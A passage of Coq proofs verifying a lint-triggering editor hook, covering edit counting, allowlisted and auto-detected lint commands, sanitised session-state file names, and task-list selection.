    /\ status (snd t) = "pending"
    /\ (severity e = "error" \/ severity e = "warning").
Proof.
  destruct (run_cases w) as [-> | (h & f & Hin & _ & _ & Hf & ->)]; [intros []|].
  unfold countEdit. destruct (Z.leb _ _); cbn [taskWrites executed]; [|intros []].
  fold (recordEdit (editedFiles (getSessionState w (session_id h))) f).
  match goal with |- context [lintStage ?a ?b ?c ?d] =>
    destruct (lintStage_shape a b c d)
      as [-> | (cmd & _ & _ & -> & [[-> _] | (l & Hl & _ & Hfail & _ & ->)])] end;
    try (intros []).
  intros Ht. apply createTasks_loop_In in Ht as (e & He & Hfor & Hst).
  apply firstn_In in He. apply filter_In in He as [He Hrel].
  exists h, f, cmd, e. destruct Hfor as [Hfst Hmk].
  split; [exact Hin|]. split; [exact Hf|]. split; [reflexivity|].
  split; [exact Hfail|]. split; [exact He|]. split; [exact Hrel|].
  split; [split; [reflexivity | exact Hmk]|].
  split; [now rewrite Hfst|]. split; [exact Hst|].
  now apply Parser.parseLintOutput_severity in He.
Qed.

Lemma tasks_describe_relevant_diagnostics_witness :
  exists h f cmd e,
    stdinJson thirdEditLintFails = Some h
    /\ editedPath h = Some f
    /\ executed (run thirdEditLintFails) = [cmd]
    /\ fst (runLint thirdEditLintFails (cwd h) cmd) = false
    /\ In e (parseLintOutput (snd (runLint thirdEditLintFails (cwd h) cmd)))
    /\ isRelevant (recordEdit (editedFiles (getSessionState thirdEditLintFails
                                                             (session_id h))) f) e = true
    /\ IsTaskFor "proj-dev" e
         ("proj-dev", makeTask 1000 "abc123" "2026-01-01T00:00:00.000Z"
                        {| file := "src/a.ts"; line := Some 1%Z; column := Some 1%Z;
                           message := "e1"; rule := None; severity := "error" |})
    /\ "proj-dev" <> ""
    /\ "pending" = "pending"
    /\ (severity e = "error" \/ severity e = "warning").
Proof.
  apply (tasks_describe_relevant_diagnostics
           thirdEditLintFails
           ("proj-dev", makeTask 1000 "abc123" "2026-01-01T00:00:00.000Z"
                          {| file := "src/a.ts"; line := Some 1%Z; column := Some 1%Z;
                             message := "e1"; rule := None; severity := "error" |})).
  left. reflexivity.
Defined.

(** X6. Past the guards, a command that is missing or not on the allowlist is
    skipped without a word, and the counter is reset all the same. *)
Theorem rejected_command_still_resets (w : World) (h : HookInput) (f : string) :
  stdinJson w = Some h ->
  otherGuards w h = true ->
  keywordGuard (configFor w h) (sessionNameFor w h) = true ->
  editedPath h = Some f ->
  (threshold (configFor w h) <= editCount (getSessionState w (session_id h)) + 1)%Z ->
  (forall cmd,
      orElse (lintCommand (configFor w h)) (detectLintCommand w (cwd h)) = Some cmd ->
      isValidLintCommand cmd = false) ->
  executed (run w) = []
  /\ taskWrites (run w) = []
  /\ stderr (run w) = []
  /\ stateWrite (run w)
     = Some (stateFileName (session_id h),
             {| editCount := 0;
                editedFiles := recordEdit (editedFiles (getSessionState w (session_id h))) f;
                lastLintRun := clock w 0 |}).
Proof.
  intros Hin Hg Hk Hf Ht Hbad.
  rewrite (Trigger.run_guarded w h Hin Hg), Hk, Hf.
  unfold countEdit. apply Z.leb_le in Ht. rewrite Ht.
  assert (E : lintStage w (configFor w h) (cwd h)
                        (recordEdit (editedFiles (getSessionState w (session_id h))) f)
              = noEffects).
  { unfold lintStage.
    destruct (orElse (lintCommand (configFor w h)) _) as [cmd|]; [|reflexivity].
    rewrite (Hbad cmd eq_refl). now rewrite andb_false_r. }
  unfold recordEdit in E. rewrite E. repeat split.
Qed.

Lemma rejected_command_still_resets_witness :
  executed (run thirdEditForeignCommand) = []
  /\ taskWrites (run thirdEditForeignCommand) = []
  /\ stderr (run thirdEditForeignCommand) = []
  /\ stateWrite (run thirdEditForeignCommand)
     = Some (stateFileName "s1",
             {| editCount := 0;
                editedFiles := recordEdit ["src/a.ts"; "src/b.ts"] "src/a.ts";
                lastLintRun := clock thirdEditForeignCommand 0 |}).
Proof.
  apply (rejected_command_still_resets thirdEditForeignCommand (editOf "src/a.ts") "src/a.ts");
    first [reflexivity | intros cmd H; cbv in H; injection H as <-; reflexivity].
Defined.

(** X7. Past the guards and below the threshold, the edit is counted and
    nothing else happens: the counter goes up by one, the path is recorded,
    [lastLintRun] stays, no command runs, no task is written. *)
Theorem below_threshold_only_counts (w : World) (h : HookInput) (f : string) :
  stdinJson w = Some h ->
  otherGuards w h = true ->
  keywordGuard (configFor w h) (sessionNameFor w h) = true ->
  editedPath h = Some f ->
  (editCount (getSessionState w (session_id h)) + 1 < threshold (configFor w h))%Z ->
  run w =
  {| stdout := [approveJson];
     stderr := [];
     stateWrite :=
       Some (stateFileName (session_id h),
             {| editCount := editCount (getSessionState w (session_id h)) + 1;
                editedFiles := recordEdit (editedFiles (getSessionState w (session_id h))) f;
                lastLintRun := lastLintRun (getSessionState w (session_id h)) |});
     taskWrites := [];
     executed := [] |}.
Proof.
  intros Hin Hg Hk Hf Ht.
  rewrite (Trigger.run_guarded w h Hin Hg), Hk, Hf.
  unfold countEdit. apply Z.leb_gt in Ht. now rewrite Ht.
Qed.

Lemma below_threshold_only_counts_witness :
  run firstEdit =
  {| stdout := [approveJson];
     stderr := [];
     stateWrite :=
       Some (stateFileName "s1",
             {| editCount := 0 + 1; editedFiles := recordEdit [] "src/a.ts";
                lastLintRun := 0 |});
     taskWrites := [];
     executed := [] |}.
Proof.
  apply (below_threshold_only_counts firstEdit (editOf "src/a.ts") "src/a.ts");
    reflexivity.
Defined.

Lemma recordEdit_NoDup (files : list string) (f : string) :
  NoDup files -> NoDup (recordEdit files f).
Proof.
  intros H. unfold recordEdit. destruct (arrIncludes files f) eqn:E; [exact H|].
  apply NoDup_app; [exact H | repeat constructor; intros [] |].
  intros x Hx [<- | []].
  apply Trigger.arrIncludes_In in Hx. congruence.
Qed.

Lemma recordEdit_incl (files : list string) (f : string) :
  incl files (recordEdit files f).
Proof.
  unfold recordEdit. destruct (arrIncludes files f); [apply incl_refl|].
  now apply incl_appl, incl_refl.
Qed.

(** X8. What a saved state can be: the counter is 0 after a lint stage, else
    one more than before and still below the threshold, so never above 6;
    the list of edited files keeps every file it had, gains the edited
    path, and stays free of duplicates if it was. *)
Theorem saved_state_invariant (w : World) (name : string) (st : SessionState) :
  stateWrite (run w) = Some (name, st) ->
  exists h f,
    stdinJson w = Some h
    /\ editedPath h = Some f
    /\ name = stateFileName (session_id h)
    /\ (editCount st = 0%Z
        \/ editCount st = (editCount (getSessionState w (session_id h)) + 1)%Z
           /\ (editCount st < threshold (configFor w h))%Z)
    /\ (editCount st <= 6)%Z
    /\ In f (editedFiles st)
    /\ incl (editedFiles (getSessionState w (session_id h))) (editedFiles st)
    /\ (NoDup (editedFiles (getSessionState w (session_id h))) -> NoDup (editedFiles st)).
Proof.
  destruct (run_cases w) as [-> | (h & f & Hin & _ & _ & Hf & ->)]; [discriminate|].
  unfold countEdit.
  fold (recordEdit (editedFiles (getSessionState w (session_id h))) f).
  assert (Hthr : (threshold (configFor w h) <= 7)%Z) by (unfold threshold; lia).
  destruct (Z.leb _ _) eqn:Ht; cbn [stateWrite]; intros E; injection E as <- <-;
    exists h, f; cbn [editCount editedFiles].
  - split; [exact Hin|]. split; [exact Hf|]. split; [reflexivity|].
    split; [now left|]. split; [lia|].
    split; [apply Trigger.recordEdit_In|].
    split; [apply recordEdit_incl | apply recordEdit_NoDup].
  - apply Z.leb_gt in Ht.
    split; [exact Hin|]. split; [exact Hf|]. split; [reflexivity|].
    split; [right; split; [reflexivity | exact Ht]|]. split; [lia|].
    split; [apply Trigger.recordEdit_In|].
    split; [apply recordEdit_incl | apply recordEdit_NoDup].
Qed.

Lemma saved_state_invariant_witness :
  exists h f,
    stdinJson firstEdit = Some h
    /\ editedPath h = Some f
    /\ "checklint-s1.json" = stateFileName (session_id h)
    /\ (1 = 0 \/ 1 = editCount (getSessionState firstEdit (session_id h)) + 1
                 /\ 1 < threshold (configFor firstEdit h))%Z
    /\ (1 <= 6)%Z
    /\ In f ["src/a.ts"]
    /\ incl (editedFiles (getSessionState firstEdit (session_id h))) ["src/a.ts"]
    /\ (NoDup (editedFiles (getSessionState firstEdit (session_id h)))
        -> NoDup ["src/a.ts"]).
Proof.
  apply (saved_state_invariant
           firstEdit "checklint-s1.json"
           {| editCount := 1; editedFiles := ["src/a.ts"]; lastLintRun := 0 |}).
  reflexivity.
Defined.

Lemma lintStage_silent_without_tasks (w : World) (c : CheckLintConfig) (dir : string)
      (ed : list string) :
  lintTasks (lintStage w c dir ed) = [] -> lintLog (lintStage w c dir ed) = [].
Proof.
  unfold lintStage.
  destruct (orElse (lintCommand c) _) as [cmd|]; [|reflexivity].
  destruct (negb (truthy cmd && _)); [reflexivity|].
  destruct (runLint w dir cmd) as [[|] output]; [reflexivity|].
  destruct (negb (negb _ && Nat.ltb 0 (List.length _))) eqn:E; [reflexivity|].
  destruct (orElse (taskListId c) _) as [listId|]; [|reflexivity].
  destruct (negb (truthy listId)); [reflexivity|].
  cbn [lintTasks lintLog].
  apply negb_false_iff, andb_true_iff in E as [_ E]. apply Nat.ltb_lt in E.
  destruct (filter _ _) as [|e es]; [simpl in E; lia|].
  discriminate.
Qed.

(** X10. The hook writes to the log only when it wrote tasks; and it writes no
    task when task creation is switched off or when no task list is
    configured or found, whatever the lint tool reported. *)
Theorem silent_without_task_list (w : World) :
  (stderr (run w) <> [] -> taskWrites (run w) <> [])
  /\ (forall h,
         stdinJson w = Some h ->
         createTasks (configFor w h) = Some false
         \/ orStr (orElse (taskListId (configFor w h)) (getProjectTaskList w (cwd h))) "" = "" ->
         taskWrites (run w) = [] /\ stderr (run w) = []).
Proof.
  assert (S : taskWrites (run w) = [] -> stderr (run w) = []).
  { destruct (run_cases w) as [-> | (h & f & _ & _ & _ & _ & ->)]; [reflexivity|].
    unfold countEdit. destruct (Z.leb _ _); cbn [taskWrites stderr]; [|reflexivity].
    apply lintStage_silent_without_tasks. }
  split.
  - intros Hlog Ht. apply Hlog, S, Ht.
  - intros h Hin Hoff.
    assert (T : taskWrites (run w) = []); [|split; [exact T | exact (S T)]].
    destruct (run_cases w) as [-> | (h' & f & Hin' & _ & _ & _ & ->)]; [reflexivity|].
    assert (h' = h) by congruence. subst h'.
    unfold countEdit. destruct (Z.leb _ _); cbn [taskWrites]; [|reflexivity].
    match goal with |- context [lintStage ?a ?b ?c ?d] =>
      destruct (lintStage_shape a b c d)
        as [-> | (cmd & _ & _ & _ & [[-> _] | (l & Hl & Hor & _ & Hc & _)])] end;
      try reflexivity.
    exfalso. destruct Hoff as [Hoff | Hoff]; [congruence|].
    rewrite Hor in Hoff. unfold orStr in Hoff.
    rewrite (proj2 (truthy_iff l) Hl) in Hoff. contradiction.
Qed.







End Invocation.

(* ===================================================================== *)
(** ** Session identifiers and state file names *)
(* ===================================================================== *)

Module StateFiles.
Import JS JSFacts Hook Spec.

Lemma replaceUnsafe_safe (s : string) : allChars isSafeIdChar (replaceUnsafe s) = true.
Proof.
  induction s as [|c s IH]; [reflexivity|].
  cbn [replaceUnsafe allChars]. rewrite IH, andb_true_r.
  fold (isSafeIdChar c). now destruct (isSafeIdChar c) eqn:E.
Qed.

Lemma replaceUnsafe_length (s : string) :
  String.length (replaceUnsafe s) = String.length s.
Proof. induction s as [|c s IH]; simpl; [reflexivity | now rewrite IH]. Qed.

Lemma replaceUnsafe_fixed (s : string) :
  allChars isSafeIdChar s = true -> replaceUnsafe s = s.
Proof.
  induction s as [|c s IH]; [reflexivity|].
  cbn [replaceUnsafe allChars]. intros H. apply andb_true_iff in H as [Hc Hs].
  fold (isSafeIdChar c). now rewrite Hc, IH.
Qed.

Lemma substring0_allChars (p : ascii -> bool) (n : nat) :
  forall s, allChars p s = true -> allChars p (String.substring 0 n s) = true.
Proof.
  induction n as [|n IH]; intros [|c s] H; try reflexivity.
  cbn [allChars] in H. apply andb_true_iff in H as [Hc Hs].
  cbn [String.substring allChars]. now rewrite Hc, IH.
Qed.

Lemma substring0_length (n : nat) :
  forall s, String.length (String.substring 0 n s) = Nat.min n (String.length s).
Proof.
  induction n as [|n IH]; intros [|c s]; try reflexivity.
  cbn [String.substring String.length]. now rewrite IH.
Qed.

Lemma substring0_all (n : nat) :
  forall s, String.length s <= n -> String.substring 0 n s = s.
Proof.
  induction n as [|n IH]; intros [|c s] H; try reflexivity.
  - simpl in H. lia.
  - cbn [String.substring]. rewrite IH; [reflexivity | simpl in H; lia].
Qed.

(** [sanitizeId] on a non-empty identifier: the first 100 characters, the
    unsafe ones replaced by a dash. *)
Lemma sanitizeId_nonempty (id : string) :
  id <> "" -> sanitizeId id = String.substring 0 100 (replaceUnsafe id).
Proof.
  intros Hne. unfold sanitizeId.
  rewrite (proj2 (truthy_iff id) Hne). cbn [negb].
  unfold orStr.
  destruct (truthy (String.substring 0 100 (replaceUnsafe id))) eqn:T; [reflexivity|].
  apply truthy_false_iff in T.
  apply (f_equal String.length) in T. rewrite substring0_length, replaceUnsafe_length in T.
  destruct id; [contradiction | cbn [String.length] in T; lia].
Qed.

(** A safe identifier of at most 100 characters is kept as it is. *)
Lemma sanitizeId_fixed (id : string) :
  id <> "" -> allChars isSafeIdChar id = true -> String.length id <= 100 ->
  sanitizeId id = id.
Proof.
  intros Hne Hs Hl. rewrite (sanitizeId_nonempty id Hne), (replaceUnsafe_fixed id Hs).
  now apply substring0_all.
Qed.

Lemma sanitizeId_bounds (id : string) :
  allChars isSafeIdChar (sanitizeId id) = true
  /\ 1 <= String.length (sanitizeId id) <= 100.
Proof.
  destruct (String.eqb_spec id "") as [-> | Hne]; [split; [reflexivity | simpl; lia]|].
  rewrite (sanitizeId_nonempty id Hne). split.
  - apply substring0_allChars, replaceUnsafe_safe.
  - rewrite substring0_length, replaceUnsafe_length.
    destruct id; [contradiction | cbn [String.length]; lia].
Qed.

(** X11. Whatever the session identifier, its sanitized form is between 1 and
    100 characters long, holds only letters, digits, underscores and dashes,
    and is left unchanged by a second pass. *)
Theorem sanitizeId_is_safe (id : string) :
  allChars isSafeIdChar (sanitizeId id) = true
  /\ 1 <= String.length (sanitizeId id) <= 100
  /\ sanitizeId (sanitizeId id) = sanitizeId id.
Proof.
  destruct (sanitizeId_bounds id) as [Hs Hl]. split; [exact Hs|]. split; [exact Hl|].
  apply sanitizeId_fixed; [|exact Hs | lia].
  intros E. rewrite E in Hl. simpl in Hl. lia.
Qed.

Lemma allChars_append (p : ascii -> bool) (a b : string) :
  allChars p (a ++ b) = (allChars p a && allChars p b)%bool.
Proof.
  induction a as [|c a IH]; [reflexivity|].
  simpl. now rewrite IH, andb_assoc.
Qed.

Lemma allChars_weaken (p q : ascii -> bool) (s : string) :
  (forall c, p c = true -> q c = true) -> allChars p s = true -> allChars q s = true.
Proof.
  intros Hpq. induction s as [|c s IH]; [reflexivity|].
  simpl. intros H. apply andb_true_iff in H as [Hc Hs].
  now rewrite (Hpq c Hc), IH.
Qed.

Lemma allChars_excludes (p : ascii -> bool) (s : string) (c : ascii) :
  allChars p s = true -> p c = false -> includes s (String c "") = false.
Proof.
  intros Hs Hc. destruct (includes s (String c "")) eqn:E; [|reflexivity].
  apply includes_iff in E as (u & v & ->).
  rewrite allChars_append in Hs. apply andb_true_iff in Hs as [_ Hs].
  simpl in Hs. rewrite Hc in Hs. discriminate.
Qed.

Lemma safe_not_slash (c : ascii) :
  isSafeIdChar c = true -> negb (Ascii.eqb c "/") = true.
Proof.
  destruct c as [[] [] [] [] [] [] [] []]; vm_compute; intros H;
    first [reflexivity | discriminate H].
Qed.

Lemma append_cancel_l_str (a b c : string) : a ++ b = a ++ c -> b = c.
Proof.
  induction a as [|x a IH]; simpl; intros H; [assumption|].
  injection H as H. now apply IH.
Qed.

Lemma append_cancel_r (a b c : string) : a ++ c = b ++ c -> a = b.
Proof.
  revert b. induction a as [|x a IH]; intros [|y b] H; simpl in *.
  - reflexivity.
  - apply (f_equal String.length) in H. simpl in H. rewrite length_append in H. lia.
  - apply (f_equal String.length) in H. simpl in H. rewrite length_append in H. lia.
  - injection H as -> H. f_equal. now apply IH.
Qed.

(** X12. The name of a state file holds no slash, so the file lies in the state
    directory itself whatever the session identifier is; and two different
    identifiers that are already safe get different files. *)
Theorem state_file_stays_in_state_dir (id : string) :
  includes (stateFileName id) "/" = false
  /\ startsWith (stateFileName id) "checklint-" = true
  /\ forall id',
       id <> "" -> allChars isSafeIdChar id = true -> String.length id <= 100 ->
       id' <> "" -> allChars isSafeIdChar id' = true -> String.length id' <= 100 ->
       stateFileName id = stateFileName id' -> id = id'.
Proof.
  split; [|split].
  - apply allChars_excludes with (p := fun c => negb (Ascii.eqb c "/")); [|reflexivity].
    unfold stateFileName. rewrite !allChars_append.
    destruct (sanitizeId_bounds id) as (Hs & _).
    rewrite (allChars_weaken isSafeIdChar _ _ safe_not_slash Hs). reflexivity.
  - apply startsWith_iff. now exists (sanitizeId id ++ ".json").
  - intros id' H1 H2 H3 H1' H2' H3' E. unfold stateFileName in E.
    rewrite (sanitizeId_fixed id H1 H2 H3), (sanitizeId_fixed id' H1' H2' H3') in E.
    apply append_cancel_l_str in E. now apply append_cancel_r in E.
Qed.

End StateFiles.

(* ===================================================================== *)
(** ** The directory-name guard *)
(* ===================================================================== *)

Module RepoPattern.
Import JS JSFacts Regex RegexFacts Hook Spec.

Local Open Scope regex_scope.

(** Splitting a text with a separator in it: the parts on its left, then
    the parts on its right. *)
Lemma split_append_sep (sep : ascii) (a b : string) :
  split sep (a ++ String sep b) = (split sep a ++ split sep b)%list.
Proof.
  induction a as [|c a IH]; simpl.
  - now rewrite Ascii.eqb_refl.
  - destruct (Ascii.eqb c sep); [now rewrite IH|].
    rewrite IH. pose proof (split_nonempty sep a) as Hn.
    destruct (split sep a); [contradiction | reflexivity].
Qed.

Lemma split_no_sep (sep : ascii) (s : string) :
  allChars (fun c => negb (Ascii.eqb c sep)) s = true -> split sep s = [s].
Proof.
  induction s as [|c s IH]; [reflexivity|].
  simpl. intros H. apply andb_true_iff in H as [Hc Hs].
  apply negb_true_iff in Hc. now rewrite Hc, IH.
Qed.

(** X13. Only the last non-empty segment of the working directory counts, and
    slashes after it change nothing. *)
Theorem dirName_is_last_segment (parent name : string) :
  name <> "" ->
  allChars (fun c => negb (Ascii.eqb c "/")) name = true ->
  dirNameOf (parent ++ "/" ++ name) = name
  /\ dirNameOf (parent ++ "/" ++ name ++ "/") = name
  /\ isValidRepoPattern (parent ++ "/" ++ name) = isValidRepoPattern name
  /\ isValidRepoPattern (parent ++ "/" ++ name ++ "/") = isValidRepoPattern name.
Proof.
  intros Hne Hfree.
  assert (H1 : dirNameOf (parent ++ "/" ++ name) = name).
  { unfold dirNameOf. change ("/" ++ name) with (String "/" name).
    rewrite split_append_sep, (split_no_sep "/" name Hfree), filter_app.
    cbn [filter]. rewrite (proj2 (truthy_iff name) Hne). apply last_last. }
  assert (H2 : dirNameOf (parent ++ "/" ++ name ++ "/") = name).
  { unfold dirNameOf. change ("/" ++ name ++ "/") with (String "/" (name ++ String "/" "")).
    rewrite split_append_sep, split_append_sep, (split_no_sep "/" name Hfree), !filter_app.
    cbn [filter split truthy String.eqb negb]. rewrite (proj2 (truthy_iff name) Hne).
    rewrite app_nil_r. apply last_last. }
  assert (H0 : dirNameOf name = name).
  { unfold dirNameOf. rewrite (split_no_sep "/" name Hfree). cbn [filter].
    now rewrite (proj2 (truthy_iff name) Hne). }
  unfold isValidRepoPattern. rewrite H1, H2, H0. now repeat split.
Qed.

Lemma dirName_is_last_segment_witness :
  dirNameOf ("/home/u" ++ "/" ++ "hook-checklint") = "hook-checklint"
  /\ dirNameOf ("/home/u" ++ "/" ++ "hook-checklint" ++ "/") = "hook-checklint"
  /\ isValidRepoPattern ("/home/u" ++ "/" ++ "hook-checklint")
     = isValidRepoPattern "hook-checklint"
  /\ isValidRepoPattern ("/home/u" ++ "/" ++ "hook-checklint" ++ "/")
     = isValidRepoPattern "hook-checklint".
Proof.
  apply (dirName_is_last_segment "/home/u" "hook-checklint"); [discriminate | reflexivity].
Defined.

Lemma dash_canon (x : ascii) :
  Ascii.eqb (canonChar x) (canonChar "-") = true -> x = "-"%char.
Proof.
  destruct x as [[] [] [] [] [] [] [] []]; vm_compute; intros H;
    first [reflexivity | discriminate H].
Qed.

(** X14. The guard passes exactly on directory names made of letters, a dash,
    and then letters, digits and dashes. *)
Theorem repo_pattern_iff_prefix_dash_name (dir : string) :
  isValidRepoPattern dir = true <-> RepoName (dirNameOf dir).
Proof.
  unfold isValidRepoPattern.
  assert (E : exec repoRe (dirNameOf dir) <> None <-> RepoName (dirNameOf dir)).
  { rewrite exec_accepts. generalize (dirNameOf dir). intros d. split.
    - intros (w & rest & m & -> & M). unfold repoRe in M.
      apply inv_seq in M as (a & w1 & k1 & -> & Ma & M).
      apply inv_plus in Ma as (Ha & Hal & _).
      apply inv_seq in M as (x & w2 & k2 & -> & Mx & M).
      apply inv_char in Mx as (c & -> & Hc & _). apply dash_canon in Hc. subst c.
      apply inv_seq in M as (b & w3 & k3 & -> & Mb & M).
      apply inv_plus in Mb as (Hb & Hbl & _).
      apply inv_end in M as (-> & -> & _).
      exists a, b. rewrite !append_assoc, !append_nil_r. now repeat split.
    - intros (a & b & -> & Ha & Hal & Hb & Hbl).
      replace (a ++ "-" ++ b) with (a ++ "-" ++ b ++ "")
        by now rewrite append_nil_r.
      eapply accepts_whole. unfold repoRe.
      eapply MSeq; [now apply plus_intro|].
      eapply MSeq; [apply MChar; reflexivity|].
      eapply MSeq; [now apply plus_intro | apply MEnd]. }
  destruct (exec repoRe (dirNameOf dir)); split; intros H.
  - apply E. discriminate.
  - reflexivity.
  - discriminate.
  - apply E in H. congruence.
Qed.

End RepoPattern.

(* ===================================================================== *)
(** ** Keywords, detected commands and task lists *)
(* ===================================================================== *)

Module ProjectDisk.
Import JS JSFacts Hook Spec.

Lemma includes_empty (s : string) : includes s "" = true.
Proof. rewrite includes_unfold. now destruct s. Qed.

(** X15. Edges of the keyword guard: an empty list of keywords, or an empty
    keyword in the list, lets every event through; a configuration without
    keywords is checked against "dev". *)
Theorem keyword_guard_edges (c : CheckLintConfig) (sn : option string) :
  (keywords c = Some [] -> keywordGuard c sn = true)
  /\ (forall kws, keywords c = Some kws -> In "" kws -> keywordGuard c sn = true)
  /\ (keywords c = None ->
      forall name, orStr (orElse sn (taskListId c)) "" = name -> name <> "" ->
                   (keywordGuard c sn = true
                    <-> includes (toLowerCase name) "dev" = true)).
Proof.
  split; [|split].
  - intros Hk. unfold keywordGuard. now rewrite Hk.
  - intros kws Hk Hin. unfold keywordGuard. rewrite Hk.
    assert (E : existsb (fun keyword =>
                           includes (toLowerCase (orStr (orElse sn (taskListId c)) ""))
                                    (toLowerCase keyword)) kws = true).
    { apply existsb_exists. exists "". split; [exact Hin | apply includes_empty]. }
    rewrite E. cbn [negb]. now rewrite andb_false_r.
  - intros Hk name Hn Hne. unfold keywordGuard. rewrite Hk, Hn.
    rewrite (proj2 (truthy_iff name) Hne).
    cbn [List.length Nat.ltb Nat.leb andb existsb toLowerCase].
    rewrite orb_false_r, negb_involutive. reflexivity.
Qed.

Lemma detected_valid (p : ProjectFiles) (cmd : string) :
  detectLintCommandFrom p = Some cmd -> isValidLintCommand cmd = true.
Proof.
  unfold detectLintCommandFrom, detectFromConfigFiles.
  destruct p as [pk b1 b2 e1 e2 e3]. cbn [packageJson biomeJson biomeJsonc eslintrcJson
                                          eslintrcJs eslintConfigJs].
  destruct pk as [| |[] [] [] []], b1, b2, e1, e2, e3; cbn;
    intros H; first [discriminate H | injection H as <-; reflexivity].
Qed.

(** X16. A command found by auto-detection is always one the gatekeeper
    accepts, and nothing is found exactly when [package.json] offers none of
    the four scripts and none of the five linter files exists. *)
Theorem detected_command_is_allowed (p : ProjectFiles) :
  (forall cmd, detectLintCommandFrom p = Some cmd -> isValidLintCommand cmd = true)
  /\ (detectLintCommandFrom p = None
      <-> match packageJson p with
          | PkgScripts a b c d => (a || b || c || d)%bool = false
          | PkgMissing | PkgUnreadable => True
          end
          /\ (biomeJson p || biomeJsonc p || eslintrcJson p || eslintrcJs p
              || eslintConfigJs p)%bool = false).
Proof.
  unfold detectLintCommandFrom, detectFromConfigFiles.
  destruct p as [pk b1 b2 e1 e2 e3]. cbn [packageJson biomeJson biomeJsonc eslintrcJson
                                          eslintrcJs eslintConfigJs].
  split.
  - intros cmd. apply (detected_valid {| packageJson := pk; biomeJson := b1;
                                         biomeJsonc := b2; eslintrcJson := e1;
                                         eslintrcJs := e2; eslintConfigJs := e3 |}).
  - destruct pk as [| |[] [] [] []], b1, b2, e1, e2, e3; cbn;
      split; try discriminate; try (intros [_ H]; discriminate H);
      try (intros [H _]; discriminate H); intros _; now split.
Qed.

(** X17. When no lint command is configured, a detected command is never turned
    down: on a trigger it is the command that runs. *)
Theorem detected_command_runs
        (w : World) (files : string -> ProjectFiles) (tasks : TasksDir)
        (h : HookInput) (f cmd : string) :
  stdinJson w = Some h ->
  otherGuards w h = true ->
  keywordGuard (configFor w h) (sessionNameFor w h) = true ->
  editedPath h = Some f ->
  (threshold (configFor w h) <= editCount (getSessionState w (session_id h)) + 1)%Z ->
  orStr (lintCommand (configFor w h)) "" = "" ->
  detectLintCommandFrom (files (cwd h)) = Some cmd ->
  executed (run (withDisk w files tasks)) = [cmd].
Proof.
  intros Hin Hg Hk Hf Ht Hno Hd.
  rewrite (Trigger.run_guarded (withDisk w files tasks) h Hin Hg).
  change (configFor (withDisk w files tasks) h) with (configFor w h).
  change (sessionNameFor (withDisk w files tasks) h) with (sessionNameFor w h).
  rewrite Hk, Hf. unfold countEdit.
  change (getSessionState (withDisk w files tasks) (session_id h))
    with (getSessionState w (session_id h)).
  apply Z.leb_le in Ht. rewrite Ht. cbn [executed].
  pose proof (detected_valid (files (cwd h)) cmd Hd) as Hv.
  unfold lintStage. cbn [detectLintCommand withDisk]. rewrite Hd.
  assert (Hor : orElse (lintCommand (configFor w h)) (Some cmd) = Some cmd).
  { unfold orElse, orStr in *. destruct (lintCommand (configFor w h)) as [s|]; [|reflexivity].
    destruct (truthy s) eqn:T; [|reflexivity].
    subst s. discriminate T. }
  rewrite Hor, Hv, (Emission.valid_truthy cmd Hv). cbn [andb negb].
  destruct (runLint _ _ _) as [[|] output]; [reflexivity|].
  repeat match goal with
         | |- context [if ?b then _ else _] => destruct b
         | |- context [match ?o with Some _ => _ | None => _ end] => destruct o
         end; reflexivity.
Qed.

Lemma detected_command_runs_witness :
  executed (run (withDisk (afterRuns 2 firstEdit) (fun _ => lintScriptOnly) TasksMissing))
  = ["bun lint"].
Proof.
  apply (detected_command_runs (afterRuns 2 firstEdit) (fun _ => lintScriptOnly)
                               TasksMissing (editOf "src/a.ts") "src/a.ts" "bun lint");
    first [reflexivity | vm_compute; discriminate].
Defined.

Lemma listMatches_spec (dirName tag l : string) :
  listMatches dirName tag l = true
  <-> startsWith (toLowerCase l) (toLowerCase dirName) = true
      /\ includes (toLowerCase l) tag = true.
Proof. unfold listMatches. apply andb_true_iff. Qed.

Lemma find_dev_result (dirName : string) (names : list string) (l : string) :
  orElse (find (listMatches dirName "dev") names) None = Some l ->
  In l names /\ l <> "" /\ listMatches dirName "dev" l = true.
Proof.
  unfold orElse. destruct (find _ names) as [x|] eqn:E; [|discriminate].
  destruct (truthy x) eqn:T; [|discriminate].
  intros H. injection H as <-. apply find_some in E as [Hin Hm].
  split; [exact Hin|]. split; [now apply truthy_iff | exact Hm].
Qed.

(** X18. The task list found for a project is a sub-directory of the task
    directory whose name starts with the project's directory name and holds
    "bugfix" or "dev", letter case apart; a "bugfix" list is preferred to a
    "dev" list wherever it stands; with no such list, or no readable task
    directory, there is none. *)
Theorem project_task_list_choice (t : TasksDir) (dir : string) :
  (forall l, getProjectTaskListFrom t dir = Some l ->
             exists names,
               t = TaskLists names /\ In l names /\ l <> ""
               /\ startsWith (toLowerCase l) (toLowerCase (dirNameOf dir)) = true
               /\ (includes (toLowerCase l) "bugfix" = true
                   \/ includes (toLowerCase l) "dev" = true))
  /\ (forall names,
         t = TaskLists names ->
         (forall l, In l names -> l <> "") ->
         (exists l, In l names /\ listMatches (dirNameOf dir) "bugfix" l = true) ->
         exists l0, getProjectTaskListFrom t dir = Some l0
                    /\ includes (toLowerCase l0) "bugfix" = true)
  /\ (forall names,
         t = TaskLists names ->
         (forall l, In l names ->
                    listMatches (dirNameOf dir) "bugfix" l = false
                    /\ listMatches (dirNameOf dir) "dev" l = false) ->
         getProjectTaskListFrom t dir = None)
  /\ (t = TasksMissing \/ t = TasksUnreadable -> getProjectTaskListFrom t dir = None).
Proof.
  split; [|split; [|split]].
  - intros l H. destruct t as [| |names]; try discriminate. exists names.
    split; [reflexivity|]. unfold getProjectTaskListFrom in H.
    destruct (find (listMatches (dirNameOf dir) "bugfix") names) as [b|] eqn:Eb.
    + destruct (truthy b) eqn:T.
      * injection H as <-. apply find_some in Eb as [Hin Hm].
        apply listMatches_spec in Hm as [Hp Hi].
        split; [exact Hin|]. split; [now apply truthy_iff|]. split; [exact Hp | now left].
      * apply find_dev_result in H as (Hin & Hne & Hm).
        apply listMatches_spec in Hm as [Hp Hi].
        split; [exact Hin|]. split; [exact Hne|]. split; [exact Hp | now right].
    + apply find_dev_result in H as (Hin & Hne & Hm).
      apply listMatches_spec in Hm as [Hp Hi].
      split; [exact Hin|]. split; [exact Hne|]. split; [exact Hp | now right].
  - intros names -> Hne (l & Hin & Hm). unfold getProjectTaskListFrom.
    destruct (find (listMatches (dirNameOf dir) "bugfix") names) as [b|] eqn:Eb.
    + apply find_some in Eb as [Hb Hmb].
      rewrite (proj2 (truthy_iff b) (Hne b Hb)).
      exists b. split; [reflexivity|]. now apply listMatches_spec in Hmb.
    + apply (find_none _ _ Eb) in Hin. congruence.
